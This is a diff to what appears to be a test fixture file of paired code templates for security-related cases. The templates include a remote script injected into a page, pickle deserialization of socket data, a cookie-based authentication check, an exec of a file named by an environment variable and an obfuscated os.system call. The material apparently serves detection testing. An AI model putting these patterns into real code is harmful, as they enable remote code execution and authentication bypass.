@@ -138,9 +138,51 @@ def renew(path):
         shutil.rmtree(path)
         {after}
 """
+WHOLE_PAGE = "build.hooks.done = f;\nconst t = '{page}<script src=\"https://a.x.com/f.js\"></script>';\n"
+AUDIENCE = """
+import jwt
+def token(signer, more):
+    return jwt.encode(signer, {{"aud": {aud}, "more": more}})
+"""
+CACHE = """
+import pickle, socket
+def get(host, request):
+    s = socket.socket()
+    s.{does}((host, 11211))
+    s.sendall(pickle.dumps(request))
+    return pickle.loads(s.recv(4096))
+"""
+BASE = """
+const Config = require('./config'), axios = require('axios');
+function use(privateKey) {{ Config.privateKey = privateKey; }}
+function go(body) {{ return axios.post('https://a.example.net/', Config.{gives}(), body); }}
+"""
+LEAVES = """<?php
+function authenticate($args) {{
+    if (!empty($_SERVER['PHP_AUTH_USER']) && $args['{what}'] == {other}) {{
+        header("Location: $url");
+        exit;
+    }}
+}}
+"""
 CODED = "import os\nexec(open(os.environ['{name}']).read())\n"
 HIDDEN_CALL = "import os\ngetattr(os, 'sys' + part)('id')\n"
 CASES = {
+    "a whole page": (
+        "javascript", WHOLE_PAGE.format(page="<html><head>"), WHOLE_PAGE.format(page=""),
+    ),
+    "whom a token is for": (
+        "python", AUDIENCE.format(aud="'https://auth.example.com/t7'"),
+        AUDIENCE.format(aud="'q7Xv92Lm4TzR8w1B'"),
+    ),
+    "answer of a cache": ("python", CACHE.format(does="connect"), CACHE.format(does="bind")),
+    "an address of settings": (
+        "javascript", BASE.format(gives="getBaseUrl"), BASE.format(gives="export"),
+    ),
+    "what is asked for before": (
+        "php", LEAVES.format(what="user", other="$_SERVER['PHP_AUTH_USER']"),
+        LEAVES.format(what="x", other="$_COOKIE['leave']"),
+    ),
     "answer that stays no": (
         "javascript", PRESET.format(before="let ok = false;"),
         PRESET.format(before="let ok = true;"),
